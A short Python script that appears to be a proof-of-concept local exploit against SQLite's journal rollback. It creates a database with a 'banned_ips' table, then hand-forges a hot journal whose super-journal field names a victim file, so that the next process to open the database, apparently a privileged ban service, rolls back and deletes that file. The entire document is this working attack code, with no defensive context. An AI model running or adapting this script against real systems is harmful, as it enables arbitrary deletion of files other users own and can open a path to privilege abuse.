# Runs as a local user with a directory: creates a database there, and a journal that makes SQLite roll back and then
# delete the file that the journal names as its super-journal (sqlite.org/fileformat2.html).
#   hot.py DIRECTORY VICTIM
import os, sqlite3, struct, sys

directory, victim = sys.argv[1], sys.argv[2].encode()
PAGE, SECTOR, MAGIC = 4096, 512, bytes.fromhex("d9d505f920a163d7")
path = os.path.join(directory, "db")
with sqlite3.connect(path) as database:
    database.execute("CREATE TABLE banned_ips(ip TEXT PRIMARY KEY, bantime INTEGER)")
with open(path, "rb") as file:
    content = file.read()
first = content[:PAGE]
header = MAGIC + struct.pack(">5I", 1, 0, len(content) // PAGE, SECTOR, PAGE)
page = struct.pack(">I", 1) + first + struct.pack(">I", sum(first[n] for n in range(PAGE - 200, 0, -200)))
name = struct.pack(">I", 0x40000000 // PAGE + 1) + victim + struct.pack(">2I", len(victim), sum(victim)) + MAGIC
with open(path + "-journal", "wb") as file:
    file.write(header.ljust(SECTOR, b"\0") + page + name)
